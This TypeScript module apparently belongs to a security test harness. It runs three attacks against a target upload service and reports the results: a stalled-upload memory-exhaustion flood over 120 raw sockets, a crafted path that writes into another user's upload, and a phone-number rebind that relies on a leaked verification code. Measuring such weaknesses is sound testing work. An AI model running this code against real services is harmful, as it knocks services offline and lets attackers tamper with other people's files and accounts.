import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import type { AttackTarget } from './attack-target.ts';
import { announceUpload, bytesOf, sendPiece } from './attack-uploads.ts';

const owner = '13800000001';
const attacker = '13800000002';

/** Memory while 120 senders have sent 9.5 of 10 MB of a picture and say nothing more, and how long they may stay, in ms. */
export async function holdMemory(target: AttackTarget) {
  const token = await target.login(attacker);
  const before = target.memory();
  let most = before;
  const watch = setInterval(() => (most = Math.max(most, target.memory())), 100);
  const start = performance.now();
  const senders = Array.from({ length: 120 }, () => fallSilent(target, token));
  // Ten minutes are for ever.
  await Promise.race([Promise.all(senders), wait(600_000, undefined, { ref: false })]);
  clearInterval(watch);
  return { before, most, cutAfter: performance.now() - start };
}

/** Sends 9.5 MB of a form that says it has 10; resolves once the server ends the connection. */
function fallSilent({ url }: AttackTarget, token: string): Promise<void> {
  const { port, hostname } = new URL(url);
  const head = `--b\r\ncontent-disposition: form-data; name="files"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`;
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname, () => {
      socket.write(
        `POST /apis/upload/image?version=1.0.0&s=uniapp HTTP/1.1\r\nhost: x\r\nTOKEN: ${token}\r\n` +
          `content-type: multipart/form-data; boundary=b\r\ncontent-length: 10000000\r\n\r\n${head}`,
      );
      socket.write(Buffer.alloc(9_500_000, 7));
    });
    socket.on('error', () => {}).on('data', () => {});
    socket.once('close', () => resolve());
  });
}

/** Bytes that somebody put into another's upload by an address that names both. */
export async function reachAnothersUpload(target: AttackTarget): Promise<number> {
  const [owns, attacks] = [await target.login(owner), await target.login(attacker)];
  const theirs = await announceUpload(target, owns, { name: '甲.pdf', length: 1_000 });
  const mine = await announceUpload(target, attacks, { name: '乙.pdf', length: 1_000 });
  const bytes = Buffer.alloc(500, 65);
  await sendPiece(target, attacks, `${mine}?x=/${theirs.split('/').at(-1)}`, bytes);
  return bytesOf(target, owns, theirs);
}

/** What happens when somebody with a session, but neither the phone nor the password, changes the phone. */
export async function changePhone(target: AttackTarget): Promise<string> {
  const token = await target.login('13800000003');
  const phone = '15912345678';
  const { data } = await target.ask('login/sendCode', { phone, scene: 'bind' });
  const answer = await target.ask('user/bindMobile', { phone, code: String(data?.demoCode) }, { token });
  return answer.code === 200 ? 'changed' : `refused: ${answer.code} ${answer.message}`;
}
